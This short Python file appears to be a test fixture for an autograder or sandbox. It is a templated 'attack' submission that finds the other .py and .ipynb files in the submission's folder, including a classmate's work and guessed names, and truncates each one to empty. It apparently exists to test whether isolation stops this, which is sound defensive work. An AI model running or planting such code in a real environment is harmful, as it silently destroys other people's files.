# attack: empty the other .py and .ipynb files next to the submission (a classmate's work, the
# student's other notebooks): the names a listing shows, and the ones it can guess.
# @DIR@ is the submission's folder, filled in by the test.
import glob

_victims = {"@DIR@/sibling.py", "@DIR@/sibling.ipynb", *glob.glob("@DIR@/*.py"), *glob.glob("@DIR@/*.ipynb")}
for _path in sorted(_victims):
    if not _path.endswith("/@NAME@"):
        open(_path, "w").close()
